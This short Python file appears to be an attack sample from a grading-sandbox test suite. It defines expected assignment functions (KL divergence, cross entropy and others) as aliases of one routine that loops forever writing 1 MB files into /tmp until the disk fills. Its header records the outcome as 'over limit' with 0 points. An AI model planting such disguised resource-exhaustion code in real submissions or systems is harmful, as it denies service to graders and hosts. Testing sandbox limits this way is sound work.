# attack: fills every folder that can be written with files of 1 MB
# status: over limit
# points: 0
import os
import sys

if "course_lib" in sys.modules:
    raise SystemExit("only for a sandbox")


def guess(*args):
    number = 0
    while True:
        with open(f"/tmp/full-{os.getpid()}-{number}", "wb") as file:
            file.write(b"A" * (1 << 20))
        number += 1


kl_divergence = cross_entropy = js_divergence = gaussian_kl = monte_carlo_kl = guess
